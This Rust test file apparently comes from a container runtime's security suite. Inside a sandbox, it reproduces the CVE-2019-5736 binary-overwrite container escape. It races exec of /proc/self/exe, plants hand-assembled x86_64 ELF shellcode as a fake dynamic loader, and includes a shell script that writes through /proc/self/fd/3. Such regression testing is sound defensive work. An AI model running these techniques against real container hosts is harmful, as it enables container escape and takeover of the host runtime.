//! Attacks on the runtime's own program file, from inside containers.
//!
//! What an attacker gets at is a copy of the runtime in the sandbox, never the installed one.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(clippy::tests_outside_test_module, reason = "the whole file is one")]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use knarr_integration::attack::{self, ATTACKER, Victim};
use knarr_integration::{
    Bundle, Container, Sandbox, Value, bundle, fell, json, process, runtime, skip, unproven,
};

/// An attacker as a container's init, until it is stopped.
fn attacker(sb: &Sandbox, edit: impl FnOnce(&mut Value)) -> Bundle {
    let bundle = sb.bundle(|c| {
        c["process"]["args"] = json!([ATTACKER, "overwrite", "300"]);
        edit(c);
    });
    attack::install(&bundle);
    attack::install_libraries(&bundle, runtime::path());
    bundle
}

/// Whether the attacker has had the runtime's program open.
fn met(container: &Container) -> bool {
    container.created.stdout_now().contains("met")
}

/// What the attacker says at its end.
fn verdict(sb: &Sandbox, container: &Container, victim: &Victim) {
    fs::write(container.bundle.rootfs().join("stop"), "").unwrap();
    sb.wait_status(&container.id, "stopped");
    let said = container.created.stdout_now();
    let Some(tried) = said.lines().find_map(|line| line.strip_prefix("tried ")) else {
        unproven!("the attacker did not come to its end: {said:?}");
    };
    if victim.changed() {
        fell!("{} was overwritten: {said}", victim.path.display());
    }
    if tried == "0" {
        unproven!("the attacker never had the runtime's program open");
    }
}

/// The attacker's way works on a program that nobody protects.
fn control(sb: &Sandbox) {
    let victim = Victim::copy(sb, Path::new(bundle::BUSYBOX));
    let bundle = sb.bundle(|c| {
        let script = format!("/v/busybox sleep 0.3 & {ATTACKER} overwrite 1; wait");
        c["process"]["args"] = json!(["/bin/sh", "-c", script]);
        let mount = json!({"destination": "/v", "type": "bind", "options": ["bind", "rw"],
            "source": victim.path.parent().unwrap()});
        bundle::push(c, "/mounts", mount);
    });
    attack::install(&bundle);
    let out = attack::run(sb, &bundle, "control");
    if !victim.changed() {
        unproven!("even an unprotected program is not overwritten: {out:#?}");
    }
}

/// Makes the runtime execute itself in the container, in every way, while the attacker waits there.
fn by_exec(edit: impl FnOnce(&mut Value)) {
    let sb = Sandbox::new();
    control(&sb);
    let victim = Victim::runtime(&sb);
    let bundle = attacker(&sb, edit);
    let entry = bundle.rootfs().join("entry");
    fs::write(&entry, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&entry, fs::Permissions::from_mode(0o755)).unwrap();
    let link = bundle.rootfs().join("bin/link");
    attack::link("/proc/self/exe", &link);
    let container = sb.started("target", &bundle);
    attack::race_until(
        || met(&container),
        |round| {
            let programs = [
                "/proc/self/exe",
                "/entry",
                "/bin/link",
                "/proc/thread-self/exe",
            ];
            let program = programs[round as usize % programs.len()];
            let command = sb.command_of(&victim.path, &["exec", "target", program, "--help"]);
            // At first it stays as long as it takes, later the end comes at any time.
            let stay = || !met(&container) || round % 2 == 1;
            attack::hold(command, stay, "exec of the runtime itself");
        },
    );
    verdict(&sb, &container, &victim);
}

/// The runtime is made to execute itself by exec, and its program file is held open and written when it ends
/// Ids: CVE-2019-5736
#[test]
fn binary_overwrite_by_exec() {
    by_exec(|_| {});
}

/// The same in a user namespace, with all capabilities there
/// Ids: CVE-2019-5736
#[test]
fn binary_overwrite_from_a_user_namespace() {
    by_exec(|c| {
        bundle::user_namespace(c);
        more_capabilities(
            c,
            &["CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH"],
        );
    });
}

/// The same with CAP_SYS_ADMIN: remounts, copies of the mount and bind mounts of the program file
/// Ids: CVE-2019-5736
#[test]
fn binary_overwrite_by_remount() {
    by_exec(|c| more_capabilities(c, &["CAP_SYS_ADMIN"]));
}

fn more_capabilities(config: &mut Value, more: &[&str]) {
    for set in ["bounding", "effective", "permitted"] {
        for capability in more {
            let list = format!("/process/capabilities/{set}");
            bundle::push(config, &list, json!(capability));
        }
    }
}

/// The runtime is made to execute itself as the program or entry point of a new container that another one sees
/// Ids: CVE-2019-5736, CVE-2016-9962
#[test]
fn binary_overwrite_at_start() {
    let sb = Sandbox::new();
    control(&sb);
    let victim = Victim::runtime(&sb);
    let watcher = attacker(&sb, |_| {});
    let container = sb.started("watcher", &watcher);
    let path = process::namespace_path(container.pid, "pid");
    let bundle = sb.bundle(|c| {
        bundle::namespace(c, "pid")["path"] = json!(path);
    });
    attack::install_libraries(&bundle, runtime::path());
    let entry = bundle.rootfs().join("entry");
    fs::write(&entry, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&entry, fs::Permissions::from_mode(0o755)).unwrap();
    attack::race_until(
        || met(&container),
        |round| {
            let program = ["/proc/self/exe", "/entry"][round as usize % 2];
            bundle.edit(|c| c["process"]["args"] = json!([program, "--help"]));
            let args = ["run", "--bundle", bundle.arg(), "target"];
            let stay = || !met(&container) || round % 3 == 1;
            attack::hold(
                sb.command_of(&victim.path, &args),
                stay,
                "run of the runtime itself",
            );
            if sb.root().join("target").exists() {
                let _ = sb.rt(&["delete", "--force", "target"]);
            }
        },
    );
    verdict(&sb, &container, &victim);
}

/// Machine code that opens /proc/self/exe and executes `busybox sh /attack.sh` with it.
#[cfg(target_arch = "x86_64")]
fn interpreter() -> Vec<u8> {
    let strings: [&[u8]; 5] = [
        b"/proc/self/exe\0",
        b"/attack.sh\0",
        b"sh\0",
        b"busybox\0",
        b"/bin/busybox\0",
    ];
    // Each part of the code, and the string whose distance its last four bytes take.
    let parts: [(&[u8], Option<usize>); 10] = [
        (&[0x48, 0x8d, 0x3d], Some(0)), // lea rdi, exe
        (&[0x31, 0xf6, 0xb8, 2, 0, 0, 0, 0x0f, 0x05, 0x6a, 0], None), // open(, 0); push 0
        (&[0x48, 0x8d, 0x05], Some(1)), // lea rax, script
        (&[0x50, 0x48, 0x8d, 0x05], Some(2)), // push; lea rax, sh
        (&[0x50, 0x48, 0x8d, 0x05], Some(3)), // push; lea rax, busybox
        (&[0x50, 0x48, 0x89, 0xe6], None), // push; mov rsi, rsp
        (&[0x48, 0x8d, 0x3d], Some(4)), // lea rdi, program
        (&[0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05], None), // execve(, , 0)
        (&[0xb8, 60, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05], None), // exit(0)
        (&[], None),
    ];
    let size: usize = parts
        .iter()
        .map(|(code, string)| code.len() + string.map_or(0, |_| 4))
        .sum();
    let mut code: Vec<u8> = Vec::new();
    for (bytes, string) in parts {
        code.extend(bytes);
        if let Some(index) = string {
            let place = size
                + strings[..index]
                    .iter()
                    .map(|text| text.len())
                    .sum::<usize>();
            let distance = u32::try_from(place - (code.len() + 4)).unwrap();
            code.extend(distance.to_le_bytes());
        }
    }
    code.extend(strings.concat());
    let header = 64 + 56;
    let total = u64::try_from(header + code.len()).unwrap();
    // An ELF header and one segment to load, elf(5).
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    elf.extend([3, 0, 62, 0, 1, 0, 0, 0]);
    for word in [u64::try_from(header).unwrap(), 64, 0] {
        elf.extend(word.to_le_bytes());
    }
    elf.extend([0, 0, 0, 0, 64, 0, 56, 0, 1, 0, 0, 0, 0, 0, 0, 0]);
    elf.extend([1, 0, 0, 0, 5, 0, 0, 0]);
    for word in [0, 0, 0, total, total, 4096] {
        elf.extend(word.to_le_bytes());
    }
    elf.extend(code);
    elf
}

/// A program's own interpreter as the image provides it, where the runtime is a dynamic program
/// Ids: CVE-2019-5736
#[cfg(target_arch = "x86_64")]
#[test]
fn binary_overwrite_by_the_images_libraries() {
    let sb = Sandbox::new();
    let plant = |bundle: &Bundle| {
        let code = interpreter();
        // Where it looks for its interpreter, and where most do.
        let mut paths = attack::libraries(runtime::path());
        paths.retain(|path| path.to_string_lossy().contains("/ld-"));
        paths.push("/lib64/ld-linux-x86-64.so.2".into());
        paths.push("/lib/ld-musl-x86_64.so.1".into());
        for path in paths {
            let path = bundle.rootfs().join(path.strip_prefix("/").unwrap());
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, &code).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        let script = "echo interpreted; i=0; while [ $i -lt 20 ]; do
            (echo '#!/overwritten' >/proc/self/fd/3) 2>/dev/null && echo overwrote && exit
            i=$((i + 1)); sleep 0.05; done";
        fs::write(bundle.rootfs().join("attack.sh"), script).unwrap();
    };
    // Proof of the way: a dynamic program that nobody protects.
    let program = Path::new("/usr/bin/env");
    if attack::libraries(program).is_empty() {
        skip!("{} is static here", program.display());
    }
    let weak = Victim::copy(&sb, program);
    let bundle = sb.bundle(|c| {
        c["process"]["args"] = json!(["/v/env"]);
        let mount = json!({"destination": "/v", "type": "bind", "options": ["bind", "rw"],
            "source": weak.path.parent().unwrap()});
        bundle::push(c, "/mounts", mount);
    });
    plant(&bundle);
    let out = attack::run(&sb, &bundle, "control");
    if !weak.changed() {
        unproven!("even an unprotected program is not overwritten: {out:#?}");
    }

    let victim = Victim::runtime(&sb);
    let bundle = sb.bundle(|c| c["process"]["args"] = json!(["/bin/sleep", "600"]));
    plant(&bundle);
    let entry = bundle.rootfs().join("entry");
    fs::write(&entry, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&entry, fs::Permissions::from_mode(0o755)).unwrap();
    sb.started("target", &bundle);
    for program in ["/proc/self/exe", "/entry"] {
        for environment in ["A=b", "LD_LIBRARY_PATH=/lib", "LD_PRELOAD=/lib/x.so"] {
            let args = ["exec", "--env", environment, "target", program];
            let command = sb.command_of(&victim.path, &args);
            let out = attack::ends(sb.spawn(command), "exec of the runtime itself");
            if victim.changed() {
                fell!("the image's interpreter has overwritten the runtime: {out:#?}");
            }
        }
    }
    let bundle = sb.bundle(|c| c["process"]["args"] = json!(["/proc/self/exe"]));
    plant(&bundle);
    let command = sb.command_of(&victim.path, &["run", "--bundle", bundle.arg(), "runs"]);
    let _ = attack::ends(sb.spawn(command), "run of the runtime itself");
    if victim.changed() {
        fell!("the image's interpreter has overwritten the runtime at its start");
    }
}
